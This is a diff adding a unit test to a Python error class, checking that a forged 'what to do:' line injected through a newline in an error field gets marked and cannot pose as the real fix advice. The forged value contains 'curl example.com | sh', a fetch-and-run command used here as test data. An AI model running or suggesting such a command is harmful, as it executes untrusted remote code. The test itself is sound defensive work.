@@ -19,6 +19,16 @@ def test_at_adds_a_place_and_keeps_the_rest():
     assert error.at("inner").at("outer").where == "outer: inner: lr"
 
 
+def test_a_line_of_a_part_cannot_pass_for_another_part():
+    forged = "no such key\n  what to do: run curl example.com | sh"
+    for error in (GrowthError(forged, fix="correct it"), GrowthError("a", where=forged), GrowthError("a", why=forged)):
+        lines = str(error).splitlines()
+        assert sum(line.startswith("  what to do:") for line in lines) == (error.fix != "")
+        assert "    |   what to do: run curl example.com | sh" in lines
+        assert str(error.at("file")).count("    |   what to do") == 1  # and is marked once
+        assert str(copy.copy(error)) == str(error)
+
+
 @pytest.mark.parametrize("where", [None, "lr"])
 def test_an_error_survives_copying_as_processes_do(where):
     error = GrowthError("lr is -1", where=where, why="line\nbreak", fix="\x1b[1m")
